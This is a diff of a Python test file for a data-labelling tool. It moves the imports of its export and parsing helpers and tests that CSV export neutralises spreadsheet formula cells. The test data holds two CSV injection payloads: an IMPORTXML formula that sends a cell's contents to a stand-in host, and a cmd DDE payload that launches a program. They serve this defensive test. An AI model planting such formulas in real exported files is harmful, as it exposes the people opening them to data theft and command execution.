@@ -11,8 +11,9 @@ import pytest
 
 from cje_engine.errors import CJEInputError
 from flows.cli.main import main
-from flows.label_requests.answers import parse_argilla, parse_label_studio, parse_scale, parse_table, rescale
-from flows.label_requests.exports import argilla_settings, label_studio_config
+from flows.integrations.labelling.argilla import argilla_settings, parse_argilla
+from flows.integrations.labelling.label_studio import label_studio_config, parse_label_studio
+from flows.label_requests.answers import parse_scale, parse_table, rescale
 from flows.label_requests.manifests import list_requests
 from flows.label_requests.raising import raise_requests_for_run
 from flows.storage.labels import LabelStore
@@ -128,8 +129,7 @@ def test_csv_export_neutralises_formulas_and_the_filled_csv_imports_unchanged(tm
     """Issue 25: formula cells (``=IMPORTXML(...)``, ``+cmd|...``) reached labellers' spreadsheets.  Now every
     text cell starting with = + - @, tab or CR gets a leading ``'`` (OWASP); the filled CSV read back gives
     the ids, texts and labels unchanged (the prefix is stripped exactly where it was added)."""
-    from flows.label_requests.answers import neutralize_csv_cell, restore_csv_cell
-    from flows.label_requests.exports import to_csv
+    from flows.integrations.labelling.files import neutralize_csv_cell, restore_csv_cell, to_csv
     from flows.pipelines.labels import read_label_file
 
     texts = {"=r1": "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "+r2": "+cmd|' /C calc'!A0",
